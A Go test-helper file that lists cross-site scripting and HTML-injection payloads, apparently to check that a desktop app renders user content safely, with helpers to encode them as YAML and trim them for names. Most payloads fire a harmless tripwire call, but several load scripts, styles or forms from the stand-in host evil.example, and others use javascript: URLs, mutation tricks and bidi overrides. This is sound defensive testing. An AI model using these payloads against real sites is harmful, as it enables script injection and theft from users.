package desktest

import (
	"encoding/json"
	"strings"
	"unicode"
)

// Payloads returns what somebody may put into content to have it run in the page of
// whoever looks at it. What runs calls tripwire, or opens a dialog, or asks another
// host.
func Payloads() []string {
	return []string{
		`<script>tripwire(1)</script>`,
		`<script src="https://evil.example/x.js"></script>`,
		`"><script>tripwire(3)</script>`,
		`'><script>tripwire(4)</script>`,
		`</script><script>tripwire(5)</script>`,
		`</title><script>tripwire(6)</script>`,
		`</textarea><script>tripwire(7)</script>`,
		`</style><script>tripwire(8)</script>`,
		`<!--<img src="--><img src=x onerror=tripwire(9)//">`,
		`<img src=x onerror=tripwire(10)>`,
		`<img src="https://evil.example/pixel.png">`,
		`<svg onload=tripwire(12)>`,
		`<svg><script>tripwire(13)</script></svg>`,
		`<svg><a href="javascript:tripwire(14)"><text y=20>x</text></a></svg>`,
		`<body onload=tripwire(15)>`,
		`<iframe src="javascript:parent.tripwire(16)"></iframe>`,
		`<iframe srcdoc="<script>parent.tripwire(17)</script>"></iframe>`,
		`<object data="javascript:tripwire(18)"></object>`,
		`<embed src="https://evil.example/x.swf">`,
		`<details open ontoggle=tripwire(20)>x</details>`,
		`<input autofocus onfocus=tripwire(21)>`,
		`<a href="javascript:tripwire(22)">x</a>`,
		`javascript:tripwire(23)`,
		`JaVaScRiPt:tripwire(24)`,
		`data:text/html,<script>tripwire(25)</script>`,
		`<form action="https://evil.example/"><button autofocus>x</button></form>`,
		`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
		`<base href="https://evil.example/">`,
		`<link rel="stylesheet" href="https://evil.example/x.css">`,
		`<style>@import "https://evil.example/x.css";</style>`,
		`<p style="background:url(https://evil.example/x.png)">x</p>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=tripwire(32)>`,
		`<template><script>tripwire(33)</script></template>`,
		`&lt;script&gt;tripwire(34)&lt;/script&gt;`,
		`\u003cscript\u003etripwire(35)\u003c/script\u003e`,
		`[x](javascript:tripwire(36))`,
		"`${tripwire(37)}`",
		`__proto__`,
		`constructor.constructor("tripwire(39)")()`,
		`"};tripwire(40);//`,
		"\u202egnp.erpmet\u202c right to left",
		"\u2066\u2067 isolates that never end",
		`%3Cscript%3Etripwire(43)%3C/script%3E`,
		strings.Repeat("very long ", 400),
		strings.Repeat("W", 3000),
	}
}

// YAML returns a text as YAML in quotes, with < as it is.
func YAML(text string) string {
	var out strings.Builder
	encoder := json.NewEncoder(&out) // JSON is YAML
	encoder.SetEscapeHTML(false)
	if err := encoder.Encode(text); err != nil {
		panic(err) // every string can be encoded
	}
	return strings.TrimSpace(out.String())
}

// NameOf returns a payload as a name can have it: without invisible characters, which
// are rejected, and no longer than YAML allows.
func NameOf(payload string) string {
	visible := strings.Map(func(r rune) rune {
		if unicode.Is(unicode.Cf, r) {
			return -1
		}
		return r
	}, payload)
	return visible[:min(len(visible), 200)]
}
